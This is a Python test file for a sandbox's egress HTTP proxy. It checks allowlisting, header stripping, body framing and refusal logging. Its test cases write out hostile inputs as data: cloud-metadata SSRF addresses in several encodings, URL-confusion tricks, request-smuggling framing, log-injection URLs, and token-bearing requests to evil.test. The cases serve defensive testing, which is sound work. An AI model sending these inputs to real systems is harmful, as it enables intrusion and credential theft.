"""Plain HTTP through the proxy: what reaches the host, what comes back, and what never leaves."""

from __future__ import annotations

import json
import urllib.error
import urllib.request
from typing import TYPE_CHECKING, Any

import anyio
import anyio.lowlevel
import anyio.to_thread
import pytest

from tests.unit.egress.conftest import PUBLIC, Internet, Origin, Run, Scripted, read_until

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable

    from anyio.abc import ByteStream

    Start = Callable[..., Awaitable[Run]]

pytestmark = pytest.mark.anyio


@pytest.fixture
async def site(internet: Internet, origin: Origin) -> Origin:
    await internet.listen("api.test", 80, origin)
    return origin


async def test_an_ordinary_client_gets_an_allowed_page(run: Start, site: Origin) -> None:
    started = await run("api.test")
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler({"http": f"http://127.0.0.1:{started.port}"})
    )

    def fetch() -> bytes:
        with opener.open("http://api.test/page?q=1", timeout=20) as answer:
            return bytes(answer.read())

    assert await anyio.to_thread.run_sync(fetch) == b"ok"
    assert site.requests[0].target == b"/page?q=1"
    assert site.headers()["host"] == "api.test"
    await started.records.wait_for(1)
    record = started.records[0]
    assert (record.host, record.port, record.verdict, record.rule) == ("api.test", 80, "allowed", "api.test")
    assert record.address == PUBLIC
    assert record.bytes_up > 0
    assert record.bytes_down == len(site.response)


async def test_an_ordinary_client_is_told_why_it_was_refused(run: Start, internet: Internet) -> None:
    started = await run("api.test")
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler({"http": f"http://127.0.0.1:{started.port}"})
    )

    def fetch() -> str:
        with pytest.raises(urllib.error.HTTPError) as caught:
            opener.open("http://evil.test/?token=SECRET", timeout=20)
        with caught.value as answer:
            return f"{answer.code} {answer.read().decode()}"

    body = await anyio.to_thread.run_sync(fetch)
    assert body.startswith("403 ")
    assert 'under [workspaces.lab.egress]: allow = ["api.test", "evil.test:80"]' in body
    assert internet.lookups == internet.dialled == []


async def test_the_host_header_does_not_decide(run: Start, internet: Internet, site: Origin) -> None:
    started = await run("api.test")
    refused = await started.ask(b"GET http://evil.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n")
    assert refused.startswith(b"HTTP/1.1 403 ")
    assert internet.dialled == []
    allowed = await started.ask(
        b"GET http://api.test/ HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"
    )
    assert allowed.startswith(b"HTTP/1.1 200 ")
    assert site.headers()["host"] == "api.test"


async def test_nothing_meant_for_the_proxy_reaches_the_host(run: Start, site: Origin) -> None:
    started = await run("api.test")
    await started.ask(
        b"GET http://api.test/ HTTP/1.1\r\nHost: api.test\r\nProxy-Authorization: Basic c2VjcmV0\r\n"
        b"Proxy-Connection: keep-alive\r\nConnection: close, X-Hop\r\nX-Hop: 1\r\nTE: trailers\r\n"
        b"Upgrade: websocket\r\nKeep-Alive: 5\r\nAuthorization: Bearer kept\r\n\r\n"
    )
    assert site.headers() == {"host": "api.test", "authorization": "Bearer kept", "connection": "close"}


@pytest.mark.parametrize(
    ("framing", "body"),
    [
        (b"Content-Length: 5\r\n", b"hello"),
        (b"Transfer-Encoding: chunked\r\n", b"2\r\nhe\r\n3;ext=1\r\nllo\r\n0\r\nX-Trailer: gone\r\n\r\n"),
        (b"Content-Length: 5\r\nConnection: close, content-length\r\n", b"hello"),
        (
            b"Transfer-Encoding: chunked\r\nConnection: transfer-encoding, close\r\n",
            b"5\r\nhello\r\n0\r\n\r\n",
        ),
    ],
)
async def test_a_body_arrives_whole_whatever_frames_it(
    run: Start, site: Origin, framing: bytes, body: bytes
) -> None:
    started = await run("api.test")
    async with await started.connect() as stream:
        await stream.send(b"POST http://api.test/ HTTP/1.1\r\nHost: api.test\r\n" + framing + b"\r\n" + body)
        assert (await read_until(stream, b"ok")).startswith(b"HTTP/1.1 200 ")
    assert site.bodies == [b"hello"]
    assert "x-trailer" not in site.headers()


async def test_a_client_that_expects_100_continue_is_told_to_go_on(run: Start, site: Origin) -> None:
    started = await run("api.test")
    async with await started.connect() as stream:
        await stream.send(
            b"POST http://api.test/ HTTP/1.1\r\nHost: api.test\r\nContent-Length: 5\r\n"
            b"Expect: 100-continue\r\n\r\n"
        )
        assert (await read_until(stream, b"\r\n\r\n")).startswith(b"HTTP/1.1 100 ")
        await stream.send(b"hello")
        assert (await read_until(stream, b"ok")).startswith(b"HTTP/1.1 200 ")
    assert "expect" not in site.headers()


async def test_each_request_on_one_connection_is_decided_anew(
    run: Start, internet: Internet, site: Origin
) -> None:
    started = await run("api.test")
    async with await started.connect() as stream:
        for _ in range(2):
            await stream.send(b"GET http://api.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n")
            assert (await read_until(stream, b"ok")).startswith(b"HTTP/1.1 200 ")
        await stream.send(b"GET http://evil.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n")
        assert b" 403 " in await read_until(stream, b"\n")
    assert site.connections == 2
    assert {host for host, _, _ in internet.dialled} == {"api.test"}
    await started.records.wait_for(3)
    assert [record.verdict for record in started.records] == ["allowed", "allowed", "refused"]


async def test_pipelined_requests_are_answered_in_order_and_decided_each(run: Start, site: Origin) -> None:
    started = await run("api.test")
    one = b"POST http://api.test/%d HTTP/1.1\r\nHost: api.test\r\nContent-Length: 2\r\n\r\nhi"
    evil = b"GET http://evil.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n"
    answer = await started.ask(one % 1 + one % 2 + evil + one % 3)
    assert answer.count(b"HTTP/1.1 200 ") == 2
    assert answer.count(b"HTTP/1.1 403 ") == 1
    assert [request.target for request in site.requests] == [b"/1", b"/2"]
    assert site.bodies == [b"hi", b"hi"]


async def test_a_request_hidden_in_a_body_stays_a_body(run: Start, internet: Internet, site: Origin) -> None:
    started = await run("api.test")
    hidden = b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    async with await started.connect() as stream:
        await stream.send(
            b"POST http://api.test/ HTTP/1.1\r\nHost: api.test\r\nContent-Length: %d\r\n\r\n" % len(hidden)
            + hidden
        )
        await read_until(stream, b"ok")
    assert site.bodies == [hidden]
    assert len(internet.dialled) == 1


@pytest.mark.parametrize(
    ("raw", "status"),
    [
        (b"GET / HTTP/1.1\r\nHost: api.test\r\n\r\n", 400),
        (b"GET https://api.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n", 400),
        (b"GET ftp://api.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n", 400),
        (b"GET http://user:pw@api.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n", 400),
        (b"GET http://api.test\\@evil.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n", 400),
        (b"GET http://api.test%00.evil.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n", 403),
        (b"GET http://api.test:443/ HTTP/1.1\r\nHost: api.test\r\n\r\n", 403),
        (b"GET http://api.test:8080/ HTTP/1.1\r\nHost: api.test\r\n\r\n", 403),
        (b"GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: api.test\r\n\r\n", 403),
        (b"GET http://2852039166/ HTTP/1.1\r\nHost: api.test\r\n\r\n", 403),
        (b"GET http://[::ffff:169.254.169.254]/ HTTP/1.1\r\nHost: api.test\r\n\r\n", 403),
        (b"GET http://metadata.google.internal/ HTTP/1.1\r\nHost: api.test\r\n\r\n", 403),
        (b"GET http://localhost/ HTTP/1.1\r\nHost: api.test\r\n\r\n", 403),
        (b"GET http://api.test/ HTTP/1.1\nHost: api.test\n\n", 400),
        (b"GET http://api.test/\r\nX: y HTTP/1.1\r\nHost: api.test\r\n\r\n", 400),
        (b"GET http://api.test/ HTTP/1.1\r\nHost: api.test\r\nX: y\r\n z\r\n\r\n", 400),
        (
            b"POST http://api.test/ HTTP/1.1\r\nHost: api.test\r\nContent-Length: 3\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            400,
        ),
        (b"OPTIONS * HTTP/1.1\r\nHost: api.test\r\n\r\n", 400),
        (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 400),
        (b"SSH-2.0-OpenSSH_9.2\r\n\r\n", 400),
        (b"\x16\x03\x01\x00\x05hello", 400),
        (b"GET http://api.test/" + b"a" * 20_000 + b" HTTP/1.1\r\nHost: api.test\r\n\r\n", 400),
        (b"GET http://api.test/ HTTP/1.1\r\nHost: api.test\r\nX: " + b"a" * 200_000, 400),
    ],
)
async def test_everything_else_is_refused_with_a_reason_and_dials_nothing(
    run: Start, internet: Internet, site: Origin, raw: bytes, status: int
) -> None:
    started = await run("api.test")
    answer = await started.ask(raw)
    assert answer.startswith(b"HTTP/1.1 %d " % status)
    assert b"\r\n\r\nmcp-sandbox egress: " in answer
    assert internet.dialled == []
    assert [record.verdict for record in started.records] == ["refused"]


async def test_an_empty_allowlist_refuses_even_what_resolves(
    run: Start, internet: Internet, site: Origin
) -> None:
    started = await run()
    answer = await started.ask(b"GET http://api.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n")
    assert b"allows no host" in answer
    assert internet.lookups == internet.dialled == []


async def test_a_hostile_url_makes_one_clean_line_in_the_log(run: Start, site: Origin) -> None:
    started = await run("api.test")
    await started.ask(
        b'GET http://api.test/%0a{"verdict":"allowed"}?token=SECRET HTTP/1.1\r\nHost: api.test\r\n'
        b"Authorization: Bearer SECRET\r\nConnection: close\r\n\r\nSECRET"
    )
    await started.ask(b'GET http://api.test"%0a{\\"SECRET HTTP/1.1\r\nHost: api.test\r\n\r\n')
    await started.ask(b'GET http://"},{"host":"x%0a/ HTTP/1.1\r\nHost: api.test\r\n\r\n')
    await started.records.wait_for(3)
    lines = "\n".join(record.model_dump_json() for record in started.records).split("\n")
    assert len(lines) == 3
    first: dict[str, Any] = json.loads(lines[0])
    assert first["host"] == "api.test"
    assert "SECRET" not in lines[0]
    assert all(json.loads(line)["verdict"] == "refused" for line in lines[1:])


@pytest.mark.parametrize(
    "response",
    [
        b"",
        b"SSH-2.0-OpenSSH_9.2\r\n",
        b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nxx",
        b"HTTP/1.1 200 OK\r\nX: " + b"a" * 100_000,
    ],
)
async def test_a_host_that_does_not_speak_http_makes_a_bad_gateway(
    run: Start, internet: Internet, response: bytes
) -> None:
    await internet.listen("api.test", 80, Origin(response))
    started = await run("api.test")
    answer = await started.ask(b"GET http://api.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 502 ")


async def test_a_response_cut_short_is_not_passed_off_as_whole(run: Start, internet: Internet) -> None:
    await internet.listen("api.test", 80, Origin(b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nhalf"))
    started = await run("api.test")
    answer = await started.ask(b"GET http://api.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 200 ")
    assert b"\r\ncontent-length: 10\r\n" in answer.lower()
    assert answer.endswith(b"half")
    assert "not all of it" in started.records[0].reason


async def test_a_response_without_a_length_ends_where_the_host_ends_it(
    run: Start, internet: Internet
) -> None:
    await internet.listen("api.test", 80, Origin(b"HTTP/1.0 200 OK\r\n\r\nall of it"))
    started = await run("api.test")
    async with await started.connect() as stream:
        await stream.send(b"GET http://api.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n")
        assert (await read_until(stream, b"0\r\n\r\n")).endswith(b"9\r\nall of it\r\n0\r\n\r\n")


async def test_an_answer_before_the_end_of_the_body_is_passed_on(run: Start, internet: Internet) -> None:
    async def impatient(stream: ByteStream) -> None:
        async with stream:
            await read_until(stream, b"begin")
            await stream.send(b"HTTP/1.1 413 Content Too Large\r\nContent-Length: 0\r\n\r\n")

    await internet.listen("api.test", 80, impatient)
    started = await run("api.test")
    answer = await started.ask(
        b"POST http://api.test/ HTTP/1.1\r\nHost: api.test\r\nContent-Length: 1000000\r\n\r\nbegin"
    )
    assert answer.startswith(b"HTTP/1.1 413 ")


async def test_an_answer_is_passed_on_though_the_host_breaks_off_the_upload(run: Start) -> None:
    host = BreaksOff()

    async def dial(*_: object) -> ByteStream:
        return host

    started = await run("198.51.100.7:80", dial=dial)
    head = b"POST http://198.51.100.7/ HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n"
    client = Scripted(head, b"part of it")
    with anyio.fail_after(20):
        await started.proxy.serve(client)
    assert client.told.startswith(b"HTTP/1.1 413 ")


async def test_what_still_comes_after_a_refusal_is_read_before_closing(run: Start) -> None:
    """Closing on unread bytes resets a TCP connection, and the answer is lost with it."""
    started = await run("api.test")
    head = b"POST http://evil.test/ HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n"
    client = Scripted(head, *[bytes(1000)] * 5)
    with anyio.fail_after(20):
        await started.proxy.serve(client)
    assert client.told.startswith(b"HTTP/1.1 403 ")
    with pytest.raises(anyio.EndOfStream):
        await client.receive()


class BreaksOff(Scripted):
    """A host that takes the request head, refuses the body, and answers only then."""

    def __init__(self) -> None:
        super().__init__(b"HTTP/1.1 413 Content Too Large\r\nContent-Length: 0\r\n\r\n")
        self._broken = anyio.Event()

    async def send(self, item: bytes) -> None:
        if self.told:
            self._broken.set()
            raise anyio.BrokenResourceError
        await super().send(item)

    async def receive(self, max_bytes: int = 65536) -> bytes:
        await self._broken.wait()
        await anyio.lowlevel.checkpoint()
        return await super().receive(max_bytes)


async def test_a_host_that_is_down_or_unknown_is_said_to_have_failed(run: Start, internet: Internet) -> None:
    internet.name("down.test", PUBLIC)
    started = await run("down.test", "unknown.test")
    for host in (b"down.test", b"unknown.test"):
        answer = await started.ask(b"GET http://%s/ HTTP/1.1\r\nHost: x\r\n\r\n" % host)
        assert answer.startswith(b"HTTP/1.1 502 ")
    assert [record.verdict for record in started.records] == ["failed", "failed"]
